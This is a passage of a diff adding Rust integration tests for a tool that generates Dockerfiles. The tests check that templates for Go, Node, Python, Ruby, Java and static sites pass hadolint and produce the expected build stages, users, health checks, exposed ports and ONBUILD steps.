+                "dockerfile",
+                "--out",
+                "out",
+                "--now",
+                NOW,
+            ],
+        );
+        assert_eq!(
+            run.code, 1,
+            "case {i} was accepted:\n{text}\n{}",
+            run.stdout
+        );
+        assert!(
+            run.stderr.contains("E0316") && run.stderr.contains(message),
+            "case {i}:\n{}",
+            run.stderr
+        );
+        assert!(!dir.join("out").join("x").exists(), "case {i} wrote output");
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Every template
+
+const ALL_TEMPLATES: &str = r#"
+import "job"
+
+landscape all_templates {
+  service go_svc {
+    build = go_app
+    ports { http = 8080 }
+    health { path = "/health", interval = 3s, timeout = 1s, start_period = 10s, unhealthy = 2 }
+  }
+  service node_svc {
+    build = node_app
+    ports { http = 3000 }
+    health { port = "http", interval = 5s }
+  }
+  service py_svc {
+    build = py_app
+    ports { http = 8000, metrics = 9100 }
+    health { command = ["python", "-c", "import sys; sys.exit(0)"], interval = 5s }
+  }
+  service rb_svc {
+    build = rb_app
+    ports { http = 3000 }
+  }
+  job rb_migrate {
+    build = rb_app
+    command = ["bin/rails", "db:migrate"]
+  }
+  service java_svc {
+    build = java_app
+    ports { http = 8080 }
+    health { path = "/actuator/health", port = "http" }
+  }
+  service site {
+    build = site_image
+    ports { http = 8080 }
+    health { path = "/", interval = 10s }
+  }
+  service plain {
+    build = plain_app
+    ports { http = 80 }
+    health { path = "/ping" }
+  }
+}
+
+image org {
+  from = "debian:12.5-slim"
+  user = 20000
+  steps = ["mkdir -p /etc/org && echo org > /etc/org/name"]
+}
+image go_app { from = org, template = "go", context = "./go", args { GO_VERSION = "1.22.2" } }
+image node_app { from = "node:20.11.1-bookworm-slim", template = "node", context = "./node" }
+image py_runtime {
+  from = "python:3.12.2-slim-bookworm"
+  onbuild = ["COPY requirements.txt /app/requirements.txt", "RUN pip install --no-cache-dir -r /app/requirements.txt", "WORKDIR /app", "ENV APP_HOME=/app", "EXPOSE 8000"]
+}
+image py_app { from = py_runtime, template = "python", context = "./py", command = ["python", "-m", "app"] }
+image rb_app { from = "ruby:3.3.0-slim-bookworm", template = "ruby", context = "./rb", steps = ["bin/rails assets:precompile"] }
+image java_app { from = "eclipse-temurin:21.0.2_13-jre", template = "java", context = "./java" }
+image site_image { from = "nginxinc/nginx-unprivileged:1.25.4-alpine", template = "static", context = "./site" }
+image plain_app { from = py_runtime, context = "./plain", command = ["python", "-m", "plain"] }
+"#;
+
+#[test]
+fn every_template_passes_hadolint_and_does_what_it_says() {
+    let dir = temp_dir("docker-templates");
+    std::fs::write(dir.join("all.bom"), ALL_TEMPLATES).expect("write");
+    let run = bomc(
+        &dir,
+        &[
+            "build",
+            "all.bom",
+            "--target",
+            "dockerfile",
+            "--out",
+            "out",
+            "--now",
+            NOW,
+        ],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let env_dir = dir.join("out/all_templates/default");
+    let files = dockerfiles(&env_dir);
+    let names: Vec<&str> = files.keys().map(String::as_str).collect();
+    assert_eq!(
+        names,
+        [
+            "go_app",
+            "java_app",
+            "node_app",
+            "org",
+            "plain_app",
+            "py_app",
+            "py_runtime",
+            "rb_app",
+            "site_image"
+        ]
+    );
+    let (ok, report) = hadolint(
+        &dockerfile_paths(&[env_dir]),
+        &["--failure-threshold", "warning"],
+    );
+    assert!(ok, "hadolint:\n{report}");
+    for line in report.lines() {
+        assert!(
+            !line.contains(" warning:") && !line.contains(" error:"),
+            "hadolint: {line}"
+        );
+    }
+    let build_stage = |image: &str| -> String {
+        instructions(&files[image])
+            .iter()
+            .find(|i| i.keyword == "FROM" && i.rest.ends_with(" AS build"))
+            .map(|i| i.rest.trim_end_matches(" AS build").to_string())
+            .unwrap_or_else(|| panic!("{image} has no build stage"))
+    };
+    assert_eq!(build_stage("go_app"), "golang:1.22.2-bookworm");
+    assert_eq!(build_stage("node_app"), "node:20.11.1-bookworm");
+    assert_eq!(build_stage("py_app"), "python:3.12.2-bookworm");
+    assert_eq!(build_stage("rb_app"), "ruby:3.3.0-bookworm");
+    assert_eq!(build_stage("java_app"), "maven:3.9.6-eclipse-temurin-21");
+    let last_user = |image: &str| {
+        instructions(&files[image])
+            .iter()
+            .rev()
+            .find(|i| i.keyword == "USER")
+            .map(|i| i.rest.clone())
+    };
+    // The user comes from the nearest image that sets one.
+    assert_eq!(last_user("org").as_deref(), Some("20000:20000"));
+    assert_eq!(last_user("go_app").as_deref(), Some("20000:20000"));
+    assert_eq!(last_user("node_app").as_deref(), Some("10001:10001"));
+    // Health checks: HTTP, TCP, a command, none.
+    let (go, cmd) = healthcheck(&files["go_app"]).expect("go_app");
+    assert_eq!(go.get("start-period").map(String::as_str), Some("10s"));
+    assert_eq!(go.get("retries").map(String::as_str), Some("2"));
+    assert_eq!(cmd[1], "http://127.0.0.1:8080/health");
+    let (_, cmd) = healthcheck(&files["node_app"]).expect("node_app");
+    assert_eq!(cmd[1], "tcp://127.0.0.1:3000");
+    let (_, cmd) = healthcheck(&files["py_app"]).expect("py_app");
+    assert_eq!(cmd, ["python", "-c", "import sys; sys.exit(0)"]);
+    assert!(
+        !files["py_app"].contains("AS probe"),
+        "a command needs no probe"
+    );
+    assert_eq!(healthcheck(&files["rb_app"]), None);
+    let (_, cmd) = healthcheck(&files["java_app"]).expect("java_app");
+    assert_eq!(cmd[1], "http://127.0.0.1:8080/actuator/health");
+    // EXPOSE: every port of every component built from the image.
+    let exposed = |image: &str| -> Vec<String> {
+        instructions(&files[image])
+            .iter()
+            .filter(|i| i.keyword == "EXPOSE")
+            .map(|i| i.rest.clone())
+            .collect()
+    };
+    assert_eq!(exposed("py_app"), ["8000", "9100"]);
+    assert_eq!(exposed("rb_app"), ["3000"]);
+    // ONBUILD steps run as root, between a switch to root and back.
+    let onbuild: Vec<String> = instructions(&files["py_runtime"])
+        .iter()
+        .filter(|i| i.keyword == "ONBUILD")
+        .map(|i| i.rest.clone())
+        .collect();
+    assert_eq!(onbuild.first().map(String::as_str), Some("USER 0:0"));
+    assert_eq!(onbuild.last().map(String::as_str), Some("USER 10001:10001"));
+    // A plain image whose parent copies the code (ONBUILD) does not copy it again.
+    assert!(
+        !instructions(&files["plain_app"])
+            .iter()
+            .any(|i| i.keyword == "COPY" && i.rest.starts_with('.'))
+    );
+}
